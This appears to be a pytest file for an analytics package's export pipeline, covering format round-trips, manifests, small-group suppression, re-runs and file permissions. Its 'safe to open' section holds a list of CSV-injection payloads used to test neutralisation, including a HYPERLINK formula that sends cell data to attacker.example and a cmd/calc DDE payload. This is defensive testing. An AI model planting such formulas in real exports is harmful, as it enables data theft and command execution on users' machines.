"""Exports: four formats read back equal to the aggregate, the manifest, small-group suppression,
atomic re-runs, Excel's sheet limit, and no export of unvalidated data."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import hashlib
import io
import json
import os
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from ioc_analytics import safety
from ioc_analytics.analytics import pipeline
from ioc_analytics.errors import DataQualityError
from ioc_analytics.lake.tables import AGGREGATES, BREAKDOWN_USERS
from ioc_analytics.publishing import exports
from ioc_analytics.settings import get_settings
from tests.helpers import TODAY, read_aggregate

DAY = TODAY - dt.timedelta(days=3)
TAGS = {"dag_id": "test", "task_id": "export", "ds": DAY.isoformat()}


@pytest.fixture(scope="module")
def checked(sample_lake, tmp_path_factory):
    """A copy of the sample lake with every aggregate of DAY built and checked."""
    root = tmp_path_factory.mktemp("publish")
    shutil.copytree(sample_lake, root / "lake", ignore=shutil.ignore_patterns("aggregates", "quality"))
    settings = get_settings(backend="local", lake_root=str(root / "lake"), state_dir=str(root / "state"),
                            exports_root=str(root / "exports"), min_group_users=1)
    for name in AGGREGATES:
        pipeline.build_aggregate(settings, DAY, name, TAGS)
        pipeline.quality_gate(settings, DAY, name, TAGS)
    return settings


def _read(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path, dtype={"date": str, "month": str})
    if fmt == "xlsx":
        return pd.read_excel(path, sheet_name=None, dtype={"date": str, "month": str}).popitem()[1]
    if fmt == "json":
        return pd.DataFrame(json.loads(path.read_text()))
    return pq.read_table(path).to_pandas()


def _same(got: pd.DataFrame, want: pd.DataFrame, what: str) -> None:
    assert list(got.columns) == list(want.columns) and len(got) == len(want), what
    for column in want.columns:
        if pd.api.types.is_numeric_dtype(want[column]):
            np.testing.assert_allclose(got[column].to_numpy(dtype=float), want[column].to_numpy(dtype=float),
                                       rtol=1e-12, err_msg=f"{what}.{column}")
        else:
            assert got[column].astype(str).tolist() == want[column].astype(str).tolist(), f"{what}.{column}"


@pytest.mark.parametrize("name", AGGREGATES)
def test_every_format_reads_back_as_the_aggregate_and_the_manifest_describes_them(checked, name):
    manifest = exports.export_aggregate(checked, DAY, name, TAGS)
    folder = Path(checked.exports_root) / name / DAY.isoformat()
    assert json.loads((folder / "manifest.json").read_text()) == manifest
    want = read_aggregate(Path(checked.state_dir), name, DAY)
    assert sorted(f["format"] for f in manifest["files"]) == sorted(exports.FORMATS)
    for entry in manifest["files"]:
        path = Path(entry["path"])
        assert path.parent == folder / manifest["version"] and path.name == f"{name}_{DAY}.{entry['format']}"
        assert entry["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest() and entry["rows"] == len(want)
        _same(_read(path, entry["format"]), want, f"{name}.{entry['format']}")
    assert manifest["rows"] == len(want) and manifest["suppression"]["rows"] == 0
    assert manifest["source"]["validation"]["passed"] and manifest["source"]["validation"]["report"].endswith(
        f"quality/{name}/{DAY}.json")
    assert manifest["source"]["partition"].startswith(f"{checked.lake_uri}/aggregates/{name}/{DAY:%Y/%m/%d}/v")


@pytest.mark.parametrize("name", sorted(BREAKDOWN_USERS))
def test_breakdown_rows_with_few_users_are_blanked_in_every_format(checked, name):
    whole = read_aggregate(Path(checked.state_dir), name, DAY)
    users = BREAKDOWN_USERS[name]
    k = int(whole[users].median()) + 1  # about half the rows fall below
    settings = dataclasses.replace(checked, min_group_users=k)
    manifest = exports.export_aggregate(settings, DAY, name, TAGS)
    small = whole[users] < k
    numeric = [c for c in whole.columns if pd.api.types.is_numeric_dtype(whole[c])]
    assert 0 < small.sum() < len(whole)
    assert manifest["suppression"] == {"min_group_users": k, "users_column": users, "rows": int(small.sum()),
                                       "cells": int(small.sum()) * len(numeric)}
    for entry in manifest["files"]:
        got = _read(Path(entry["path"]), entry["format"])
        assert got[numeric][small.to_numpy()].isna().all().all(), entry["format"]
        _same(got[~small.to_numpy()].reset_index(drop=True), whole[~small].reset_index(drop=True),
              f"{name}.{entry['format']}")
        keys = [c for c in whole.columns if c not in numeric]
        assert got[keys].astype(str).values.tolist() == whole[keys].astype(str).values.tolist(), "the groups stay"


def test_totals_are_not_breakdowns_and_are_exported_whole(checked):
    settings = dataclasses.replace(checked, min_group_users=10**9)
    manifest = exports.export_aggregate(settings, DAY, "daily_active_users", TAGS)
    assert manifest["suppression"]["rows"] == 0 and manifest["suppression"]["users_column"] is None


def test_a_rerun_replaces_the_set_and_keeps_only_the_version_before(checked):
    first = exports.export_aggregate(checked, DAY, "completion_rates", TAGS)
    second = exports.export_aggregate(checked, DAY, "completion_rates", TAGS)
    folder = Path(checked.exports_root) / "completion_rates" / DAY.isoformat()
    assert second["version"] > first["version"]
    assert {p.name for p in folder.iterdir() if p.is_dir()} >= {first["version"], second["version"]}
    third = exports.export_aggregate(checked, DAY, "completion_rates", TAGS)
    assert sorted(p.name for p in folder.iterdir()) == sorted([second["version"], third["version"], "manifest.json"])
    assert json.loads((folder / "manifest.json").read_text())["version"] == third["version"]


def test_an_unvalidated_day_is_not_exported(checked):
    report = Path(checked.lake_uri) / "quality" / "facet_summary" / f"{DAY}.json"
    kept = report.read_text()
    try:
        report.unlink()
        with pytest.raises(DataQualityError, match=f"facet_summary for {DAY} has not been checked .* only "
                                                   "validated data is exported"):
            exports.export_aggregate(checked, DAY, "facet_summary", TAGS)
        report.write_text(json.dumps({**json.loads(kept), "passed": False}))
        with pytest.raises(DataQualityError, match="failed its checks"):
            exports.export_aggregate(checked, DAY, "facet_summary", TAGS)
    finally:
        report.write_text(kept)


def test_excel_splits_a_table_past_the_sheet_limit_and_loses_no_row():
    table = pa.table({"n": list(range(7)), "label": [f"row {i}" for i in range(7)]})
    [xlsx] = [f for f in exports.render_files(table, "a_rather_long_table_name_for_excel", rows_per_sheet=3)
              if f.format == "xlsx"]
    sheets = pd.read_excel(io.BytesIO(xlsx.data), sheet_name=None)
    assert list(sheets) == ["a_rather_long_table_name_for_ex", "a_rather_long_table_name_fo (2)",
                            "a_rather_long_table_name_fo (3)"]  # Excel's 31-character limit
    assert [len(s) for s in sheets.values()] == [3, 3, 1]
    assert pd.concat(sheets.values(), ignore_index=True)["n"].tolist() == list(range(7))


def test_rows_without_their_users_count_are_not_published():
    table = pa.table({"device": ["mobile"], "sessions": [3]})
    with pytest.raises(DataQualityError, match="lack their 'users' column, so small groups cannot be suppressed"):
        exports.suppress_small_groups(table, "users", 10)


@pytest.mark.parametrize("name", sorted(BREAKDOWN_USERS))
def test_quicksight_datasets_suppress_as_the_exports_do(checked, name):
    """The dataset's SQL (Athena dialect), run by the local engine, equals the export's suppression."""
    from ioc_analytics.backends import get_backend
    from ioc_analytics.backends.aws.quicksight import dataset_sql
    from ioc_analytics.lake.catalog import load_catalog

    table = load_catalog(checked.lake_uri).table(name)
    whole = read_aggregate(Path(checked.state_dir), name, DAY)
    k = int(whole[BREAKDOWN_USERS[name]].median()) + 1
    engine = get_backend(checked).engine
    got = engine.query(dataset_sql(table, k) + " WHERE date = ?", [f"{DAY:%Y/%m/%d}"]).table
    export = exports.export_sql(table, DAY)
    want, _ = exports.suppress_small_groups(engine.query(export.sql, export.parameters).table, BREAKDOWN_USERS[name], k)
    assert got.to_pylist() == want.to_pylist()


# -- safe to open --------------------------------------------------------------------------------

#: Text that spreadsheets evaluate (OWASP's CSV injection), and text they do not.
FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1",
            "  =1", "\u00a0=1", "\uff1dcmd|'/c calc'!A0"]
PLAIN = ["Technology", "0-2 years", "20+ years", "user@example.com", "Middle East & Africa", ""]


def _hostile() -> pa.Table:
    labels = FORMULAS + PLAIN
    return pa.table({"label": labels, "users": list(range(len(labels))),
                     "share": [0.5] * len(labels), "note": ["bell\x07 inside"] + [None] * (len(labels) - 1)})


def test_spreadsheet_formats_neutralise_formula_like_text_and_keep_numbers():
    from openpyxl import load_workbook

    table = _hostile()
    files = {f.format: f for f in exports.render_files(table, "hostile")}
    assert files["csv"].neutralised == files["xlsx"].neutralised == len(FORMULAS)
    assert files["json"].neutralised == files["parquet"].neutralised == 0

    rows = list(csv.reader(io.StringIO(files["csv"].data.decode())))  # the CSV read as text
    assert rows[0] == table.column_names
    for record in rows[1:]:
        starts = [cell.lstrip(" \u00a0")[:1] for cell in record if cell]
        assert not [c for c in starts if c in "=+-@\t\r\uff1d"], record
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + PLAIN
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS + PLAIN))]

    book = load_workbook(io.BytesIO(files["xlsx"].data))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert not [c for c in cells if c.data_type == "f"], "no cell is a formula"
    labels = [row[0].value or "" for row in book.active.iter_rows(min_row=2)]
    assert labels == ["'" + f for f in FORMULAS] + PLAIN
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert [row[1].value for row in book.active.iter_rows(min_row=2)] == list(range(len(labels)))
    assert {row[1].data_type for row in book.active.iter_rows(min_row=2)} == {"n"}, "numbers stay numbers"
    assert book.active.cell(2, 4).value == "bell\ufffd inside", "a control character Excel cannot hold"

    assert [r["label"] for r in json.loads(files["json"].data)] == FORMULAS + PLAIN, "JSON keeps the raw text"
    assert pq.read_table(io.BytesIO(files["parquet"].data)).equals(table), "Parquet keeps the raw values"


def test_json_and_excel_hold_no_nan():
    from openpyxl import load_workbook

    table = pa.table({"x": [1.5, float("nan"), float("inf"), None]})
    files = {f.format: f for f in exports.render_files(table, "numbers")}
    assert json.loads(files["json"].data) == [{"x": 1.5}, {"x": None}, {"x": None}, {"x": None}]
    sheet = load_workbook(io.BytesIO(files["xlsx"].data)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2, max_row=5)] == [1.5, None, None, None]


def test_an_api_answer_over_raw_text_is_safe_to_open(sample_lake, tmp_path):
    """The query API reads the raw tables themselves: a formula-like role in ocean_scores comes out
    neutralised in CSV and Excel, raw in JSON."""
    from openpyxl import load_workbook

    from ioc_analytics.publishing import api

    lake = tmp_path / "lake"
    shutil.copytree(sample_lake / "ocean_scores" / "2024" / "01", lake / "ocean_scores" / "2024" / "01")
    path = lake / "ocean_scores" / "2024" / "01" / "part-20240110.parquet"
    data = pq.read_table(path)
    roles = data["role"].to_pylist()
    tech = data["industry"].to_pylist().index("Technology")
    roles[tech] = FORMULAS[0]
    pq.write_table(data.set_column(data.schema.get_field_index("role"), "role", pa.array(roles)), path)
    settings = get_settings(backend="local", lake_root=str(lake), state_dir=str(tmp_path / "state"))
    query, values, _ = api.prepare({"query": "ocean_scores_by_industry",
                                    "parameters": {"industry": "Technology", "start": "2024-01-10",
                                                   "end": "2024-01-10"}})
    answer = api.run(settings, query, values, "test")
    assert FORMULAS[0] in answer.table["role"].to_pylist()
    csv_file = exports.render_file(answer.table, query.name, "csv")
    records = list(csv.reader(io.StringIO(csv_file.data.decode())))
    assert csv_file.neutralised == 1 and "'" + FORMULAS[0] in [r[records[0].index("role")] for r in records]
    assert not [cell for record in records for cell in record if safety.is_formula_like(cell)]
    xlsx = exports.render_file(answer.table, query.name, "xlsx")
    cells = [c for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and safety.is_formula_like(c.value)]
    assert FORMULAS[0] in [r["role"] for r in api._json_rows(answer.table)]


@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_every_output_honours_the_umask(checked, tmp_path, umask):
    """Aggregates, reports, exports, manifests and the dashboard: readable by a BI tool or a web
    server of the same group (or everyone) as the umask says, not 0600."""
    from ioc_analytics.publishing import dashboard

    settings = dataclasses.replace(checked, exports_root=str(tmp_path / "exports"))
    lake = Path(settings.lake_uri)
    folders = (lake / "aggregates" / "completion_rates", lake / "quality", tmp_path / "exports")

    def stamps() -> dict[Path, int]:
        return {p: p.stat().st_mtime_ns for folder in folders for p in folder.rglob("*") if p.is_file()}

    before = stamps()
    old = os.umask(umask)
    try:
        pipeline.build_aggregate(settings, DAY, "completion_rates", TAGS)
        pipeline.quality_gate(settings, DAY, "completion_rates", TAGS)
        exports.export_aggregate(settings, DAY, "completion_rates", TAGS)
        dashboard.render(settings, DAY)
    finally:
        os.umask(old)
    written = [p for p, stamp in stamps().items() if before.get(p) != stamp]
    kinds = {p.suffix for p in written}
    assert {".parquet", ".json", ".csv", ".xlsx", ".html"} <= kinds, kinds
    assert {oct(p.stat().st_mode & 0o777) for p in written} == {oct(0o666 & ~umask)}
